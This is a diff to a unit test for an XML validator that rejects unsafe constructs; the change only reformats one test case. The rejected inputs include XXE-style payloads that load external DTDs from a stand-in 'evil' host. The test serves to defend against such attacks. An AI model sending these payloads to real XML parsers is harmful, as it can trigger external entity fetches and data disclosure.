@@ -69,7 +69,10 @@ describe('assertWellFormedSafeXml', () => {
   it.each([
     ['a parameter entity', '<!ENTITY % p SYSTEM "http://evil/x.dtd">%p;<a/>'],
     ['a lower-case doctype', '<!doctype a><a/>'],
-    ['a DOCTYPE after the declaration without a subset', '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>'],
+    [
+      'a DOCTYPE after the declaration without a subset',
+      '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil/a.dtd"><a/>',
+    ],
     ['an ELEMENT declaration', '<a><!ELEMENT a ANY></a>'],
   ])('rejects %s', (_name, xml) => {
     expect(rejection(xml).message).toContain('is not allowed');
